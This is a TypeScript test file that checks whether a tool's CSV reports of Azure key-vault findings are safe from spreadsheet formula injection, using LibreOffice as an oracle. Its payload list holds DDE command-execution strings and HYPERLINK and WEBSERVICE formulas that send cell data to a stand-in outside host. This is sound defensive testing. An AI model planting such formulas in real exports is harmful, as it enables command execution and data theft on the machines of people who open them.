import { spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { stringify } from "csv-stringify/sync";
import { test } from "uvu";
import * as assert from "uvu/assert";
import type { Assessment } from "../../src/generated/types.gen.ts";
import { aFolder } from "../helpers/disk.ts";
import { renderFiles } from "../helpers/render.ts";
import { aKey, assessFiles, aVault } from "../helpers/snapshot.ts";

const HEADS = [
  "",
  " ",
  "\t",
  "\r",
  "\n",
  "\u200b",
  "\ufeff",
  "\u00a0",
  "\u2028",
  "'",
  '"',
  '""',
  ",",
  ";",
  "|",
  "a,",
  "a;",
  'a"',
  "\ud800",
];
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=SUM(1;1)",
  "=cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("http://contoso.example/?"&A1,"open")',
  '=WEBSERVICE("http://contoso.example")',
  '=DDE("soffice";"x";"y")',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
];
const TAILS = ["", ';=2+2;"=3+3"', '\t=2+2\n=3+3\r=4+4,=5+5"'];
const PAYLOADS = HEADS.flatMap((head) => FORMULAS.flatMap((formula) => TAILS.map((tail) => head + formula + tail)));

const IMPORTS = { comma: "44", semicolon: "59", tab: "9" } as const;
type Delimiter = keyof typeof IMPORTS;
const DELIMITERS = Object.keys(IMPORTS) as Delimiter[];

/** Every payload as a tag's name and value, and many as a subscription's name: rows of findings are long. */
const attacked = (): Assessment =>
  assessFiles({
    "accounts.json": PAYLOADS.filter((_, at) => at % 8 === 0).map((name, at) => ({
      cloudName: "AzureCloud",
      id: `${String(at).padStart(8, "0")}-0000-4000-8000-0000000000bb`,
      isDefault: false,
      name,
      state: "Enabled",
      tenantId: "10000000-0000-4000-8000-00000000aaaa",
      user: { name: "a", type: "user" },
    })),
    "v.json": [aVault("kv-a")],
    "=keys.json": PAYLOADS.map((text, at) => aKey("kv-a", `k${at}`, { [text]: "x", x: text })),
  });

/** The same payloads from a writer that quotes where CSV must, and thinks of no spreadsheet. */
const naive = (): string => stringify(PAYLOADS.map((text) => [text]));

/** Live formulas that LibreOffice makes of each file, imported with the delimiter. */
function formulasIn(folder: string, files: readonly string[], delimiter: Delimiter): Record<string, number> {
  const out = join(folder, `as-${delimiter}`);
  mkdirSync(out);
  const profile = pathToFileURL(join(folder, "profile")).href;
  const { status, stderr } = spawnSync(
    "soffice",
    [
      `-env:UserInstallation=${profile}`,
      "--headless",
      `--infilter=CSV:${IMPORTS[delimiter]},34,76,1`,
      "--convert-to",
      "fods",
      "--outdir",
      out,
      ...files.map((file) => join(folder, file)),
    ],
    { encoding: "utf8" },
  );
  assert.is(status, 0, stderr);
  const count = (file: string): number => readFileSync(join(out, file.replace(/csv$/, "fods")), "utf8").split("table:formula=").length - 1;
  return Object.fromEntries(files.map((file) => [file, count(file)]));
}

const hasSoffice = spawnSync("soffice", ["--version"]).status === 0;

test("LibreOffice finds no live formula in any report, in comma, semicolon and tab import", async () => {
  assert.ok(PAYLOADS.length > 500);
  if (!hasSoffice) {
    assert.is.not(process.env["CI"], "true", "the gate needs soffice");
    return void process.stderr.write("skipped: no soffice here to look for live formulas in the CSV reports\n");
  }
  const folder = aFolder({ "control.csv": naive() });
  const assessment = attacked();
  const reports: string[] = [];
  for (const delimiter of DELIMITERS)
    for (const [name, bytes] of await renderFiles("csv", assessment, { csv: { delimiter } })) {
      reports.push(`${delimiter}-${name}`);
      writeFileSync(join(folder, `${delimiter}-${name}`), bytes);
    }
  try {
    for (const delimiter of DELIMITERS) {
      // The default report as every import takes it, and the report that was asked for to suit the import.
      const files = reports.filter((file) => file.startsWith("comma-") || file.startsWith(`${delimiter}-`));
      const { "control.csv": control = 0, ...ours } = formulasIn(folder, ["control.csv", ...files], delimiter);
      assert.ok(control >= 10, `the oracle sees formulas where nothing is made safe (${delimiter}: ${control})`);
      assert.equal(ours, Object.fromEntries(files.map((file) => [file, 0])), delimiter);
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test.run();
